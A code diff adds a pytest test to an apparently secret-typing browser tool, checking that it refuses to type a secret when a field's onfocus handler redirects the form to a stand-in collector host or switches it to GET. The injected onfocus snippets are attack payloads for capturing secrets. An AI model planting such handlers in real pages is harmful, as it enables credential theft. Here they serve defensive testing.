@@ -222,3 +222,18 @@ def test_a_secret_is_not_typed_if_what_was_typed_before_it_sends_the_form_elsewh
     typed = type_into(get_document(tab), inputs, [], SITE)
     assert typed == (1, "is in a document that sends it to another origin")
     assert tab.locator("#other").input_value() == ""
+
+
+@pytest.mark.parametrize(
+    ("change", "fault"),
+    [
+        ("this.form.action = 'http://collector.localhost:9/'", "document that sends it to another origin"),
+        ("this.form.method = 'get'", "form that sends it in the address of a request (method GET)"),
+    ],
+)
+def test_a_secret_is_not_typed_if_the_focus_of_its_field_has_the_form_sent_otherwise(
+    change: str, fault: str, tab: Page
+) -> None:
+    tab.set_content(f'<form method=post><input id=code onfocus="{change}"></form>')
+    found = type_once(tab, FieldInput(find_field(tab), Secret("secret")))
+    assert (found, read(tab)) == (f"is in a {fault}", "")
